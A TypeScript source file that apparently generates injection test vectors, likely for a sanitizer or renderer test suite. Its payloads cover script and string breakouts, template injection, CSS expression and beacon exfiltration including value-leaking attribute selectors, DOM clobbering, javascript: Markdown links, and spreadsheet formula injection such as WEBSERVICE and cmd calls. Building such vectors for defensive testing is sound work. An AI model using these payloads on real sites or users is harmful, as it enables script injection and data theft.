import type { Call, Sketch } from './vectors.ts';

type Write = (call: Call) => string;

const sketches = (family: string, all: Write[]): Sketch[] =>
  all.map((write) => ({ family, write: (call) => ({ text: `${write(call)} ${call.mark}` }) }));

/** Ends of scripts, of strings within scripts and of JSON that stands in a page. */
export function scriptVectors(): Sketch[] {
  const insides: Write[] = [
    ({ script }) => `</script><script>${script}</script>`,
    ({ script }) => `</ScRiPt\n><script>${script}//`,
    ({ script }) => `<!--<script>${script}`,
    ({ script }) => `<!--<script></script><script>${script}</script>-->`,
    ({ script }) => `";${script};//`,
    ({ script }) => `';${script};//`,
    ({ script }) => `\\";${script};//`,
    ({ script }) => `\\u0022;${script};//`,
    ({ script }) => `"-${script}-"`,
    ({ script }) => `\`;${script};//`,
    ({ script }) => `*/${script}/*`,
    ({ script }) => `\u2028${script}\u2029`,
    ({ script }) => `\n${script}\n//`,
    ({ script }) => `-->\n${script}`,
    ({ script }) => `]}}</script><script>${script}</script>`,
    ({ script }) => `{"__html":"<img src=x: onerror='${script.replaceAll("'", '`')}'>"}`,
    ({ script }) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${script}"}}`,
    ({ script }) => `"},"x":"</script><svg onload=${script.replaceAll("'", '`')}>`,
    ({ script }) => `\\x3cscript\\x3e${script}\\x3c/script\\x3e`,
    ({ script }) => `\\u003cimg src=x: onerror=${script}\\u003e`,
    ({ script }) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
    ({ script }) => `\u001b$B<script>${script}</script>`,
    ({ script }) => `<% ${script} %><?php ${script} ?><?= ${script} ?>`,
    ({ script }) => `import('data:text/javascript,${script.replaceAll("'", '`')}')`,
  ];
  return sketches('script', insides);
}

/** What templates and frameworks would carry out. */
export function templateVectors(): Sketch[] {
  return sketches('template', [
    ({ script }) => `{{constructor.constructor(\`${script}\`)()}}`,
    ({ script }) => `{{$on.constructor("${script}")()}}`,
    ({ script }) => `{{=${script}}}`,
    ({ script }) => `{{{${script}}}}`,
    ({ script }) => '${' + script + '}',
    ({ script }) => '#{' + script + '}',
    ({ script }) => `<%= ${script} %>`,
    ({ script }) => `{% ${script} %}`,
    ({ script }) => `[[${script}]]`,
    ({ script }) => `<div ng-app ng-init="${script}">x</div>`,
    ({ script }) => `<div v-on:click="${script}" @click="${script}" v-html="${script}">x</div>`,
    ({ script }) => `<div x-data x-init="${script}">x</div>`,
    ({ script }) => `<div hx-on:load="${script}" hx-get="javascript:${script}">x</div>`,
    ({ script }) => `<a :href="javascript:${script}" data-bind="click: ${script}">x</a>`,
    ({ script }) => `<x-element data-action="click->${script}" onclick={${script}}>x</x-element>`,
    ({ script }) => `%7B%7B${script}%7D%7D`,
    ({ n }) => `{n}{{n}}\${n} {${n}}`,
  ]);
}

/** Styles that run or call out, alone and in an attribute. */
export function styleVectors(): Sketch[] {
  const rules: Write[] = [
    ({ script }) => `width:expression(${script})`,
    ({ script }) => `wid/**/th:exp/*x*/ression(${script})`,
    ({ script }) => `background:url(javascript:${script})`,
    ({ beacon }) => `background:url(${beacon}b.png)`,
    ({ beacon }) => `list-style-image:u\\72l("${beacon}l.png");display:list-item`,
    ({ beacon }) => `content:url(${beacon}c.png)`,
    ({ script }) => `behavior:url(#x${script});-moz-binding:url(data:,${script})`,
    ({ beacon }) => `cursor:url(${beacon}c.cur),auto;mask:url(${beacon}m.svg#m)`,
    ({ beacon }) => `background:image-set('${beacon}s.png' 1x)`,
    ({ script }) => `position:fixed;inset:0;z-index:2147483647;--x:${script}`,
  ];
  return [
    ...sketches('style', rules),
    ...sketches(
      'style',
      rules.map(
        (rule): Write =>
          (call) =>
            `<style>*{${rule(call)}}</style>`,
      ),
    ),
    ...sketches(
      'style',
      rules.map(
        (rule): Write =>
          (call) =>
            `<p style="${rule(call).replaceAll('"', '&quot;')}">x</p>`,
      ),
    ),
    ...sketches('style', [
      ({ beacon }) => `<style>@import '${beacon}i.css';</style>`,
      ({ beacon }) =>
        `<style>@import url(${beacon}i.css);@font-face{font-family:x;src:url(${beacon}f)}</style>`,
      ({ beacon }) => `<style>input[value^=a]{background:url(${beacon}a)}</style>`,
      ({ script }) => `</style><script>${script}</script>`,
      ({ beacon }) => `{}*{background:url(${beacon}x)}`,
    ]),
  ];
}

/** Attributes that a text has or could have, and names that hide those of the page. */
export function attributeVectors(): Sketch[] {
  const out: Write = ({ script }) => `&quot;><img src=x: onerror=${script.replaceAll("'", '`')}>`;
  const raw: Write = ({ script }) => `'><img src=x: onerror=${script.replaceAll("'", '`')}>`;
  const tags = [
    ['ol', 'start'],
    ['li', 'value'],
    ['p', 'data-id'],
    ['p', 'data-level'],
    ['p', 'data-marker'],
    ['h2', 'data-level'],
    ['sup', 'data-note'],
    ['a', 'title'],
    ['p', 'class'],
    ['p', 'id'],
    ['p', 'style'],
    ['p', 'lang'],
    ['p', 'dir'],
    ['ins', 'data-suggestion'],
    ['del', 'data-suggestion'],
    ['span', 'data-href'],
    ['blockquote', 'cite'],
    ['a', 'data-href'],
    ['img', 'alt'],
    ['td', 'colspan'],
    ['p', 'is'],
    ['slot', 'name'],
  ] as const;
  const names = [
    '__remixContext',
    '__remixManifest',
    'attributes',
    'body',
    'children',
    'cookie',
    'defaultView',
    'firstChild',
    'forms',
    'getElementById',
    'innerHTML',
    'location',
    'nodeName',
    'parentNode',
    'querySelector',
    'submit',
    'action',
    '__proto__',
    'constructor',
  ];
  return [
    ...tags.flatMap(([tag, name]) =>
      sketches('attribute', [
        (call) => `<${tag} ${name}="${out(call)}">x</${tag}>`,
        (call) => `<${tag} ${name}='${raw(call)}'>x</${tag}>`,
        ({ script }) => `<${tag} ${name}="javascript:${script}" onclick="${script}">x</${tag}>`,
      ]),
    ),
    ...names.flatMap((name) =>
      sketches('clobbering', [
        ({ script }) => `<a id="${name}" href="javascript:${script}">x</a><a id="${name}" name=href>y</a>`,
        ({ script }) => `<form id="${name}"><input name="${name}" onfocus="${script}" autofocus></form>`,
        ({ beacon }) =>
          `<img name="${name}" src="${beacon}c.png"><iframe name="${name}" src="${beacon}f"></iframe>`,
      ]),
    ),
  ];
}

/** What Markdown makes of links, pictures, notes and headings. */
export function markdownVectors(): Sketch[] {
  return sketches('markdown', [
    ({ script, mark }) => `[${mark}](javascript:${script})`,
    ({ script, mark }) => `[${mark}](JaVaScRiPt:${script} "t")`,
    ({ script, mark }) => `[${mark}](<javascript:${script}>)`,
    ({ script, mark }) => `[${mark}](java\tscript:${script})`,
    ({ script, mark }) => `[${mark}](javascript&colon;${script})`,
    ({ script, mark }) => `[${mark}](&#106;avascript:${script})`,
    ({ script, mark }) => `[${mark}](\u0001javascript:${script})`,
    ({ script, mark }) => `[${mark}](https://example.org "&quot;onmouseover=${script}")`,
    ({ script, mark }) => `[${mark}](https://example.org/'onclick='${script})`,
    ({ script, mark }) =>
      `[${mark}](data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')})`,
    ({ script, mark, n }) => `[${mark}][r${n}]\n\n[r${n}]: javascript:${script}\n\n`,
    ({ script, mark, n }) => `[${mark}][r${n}]\n\n[r${n}]: https://example.org "\\"onclick=\\"${script}"\n\n`,
    ({ script }) => `<javascript:${script}>`,
    ({ beacon }) => `![x](${beacon}m.png)`,
    ({ script }) => `![x"onerror="${script}](x:)`,
    ({ script }) => `![x](x: "\\" onerror=\\"${script}")`,
    ({ script, mark, n }) =>
      `${mark}[^${n}]\n\n[^${n}]: <img src=x: onerror="${script}"> [a](javascript:${script})\n\n`,
    ({ script }) => `# <img src=x: onerror="${script}"> {#x onload=${script}}`,
    ({ script }) => `> <svg onload="${script}">`,
    ({ script }) => `- <svg onload="${script}">`,
    ({ script }) => `1. [a](vbscript:${script})`,
    ({ script }) => `\`<img src=x: onerror="${script}">\``,
    ({ script, n }) => `\`\`\`html" onload="${script}\n<script>xss(${n})</script>\n\`\`\`\n`,
    ({ script }) => `| a |\n|---|\n| <img src=x: onerror="${script}"> |\n\n`,
    ({ script }) => `**<b onclick="${script}">x</b>** _[a](javascript:${script})_`,
    ({ script }) => `<a href="javascript:${script}">x</a>`,
    ({ script }) => `<div>\n\n[a](javascript:${script})\n\n</div>`,
    ({ script }) => `https://example.org/<script>${script}</script>`,
    ({ script }) => `www.example.org/"onclick=${script}`,
    ({ script }) => `a@example.org"onclick=${script}`,
    ({ script }) => `&lt;img src=x: onerror="${script}"&gt;`,
    ({ script }) => `\\<img src=x: onerror="${script}"\\>`,
    ({ beacon, mark }) => `=HYPERLINK("${beacon}","${mark}")`,
    ({ script }) => `+cmd|' /C ${script}'!A0`,
    ({ beacon }) => `-2+3+WEBSERVICE("${beacon}")`,
    ({ script }) => `@SUM(1)*${script}`,
    ({ script }) => `\t=1+1+${script}`,
    ({ script }) => `\uFF1D1+${script}`,
  ]);
}
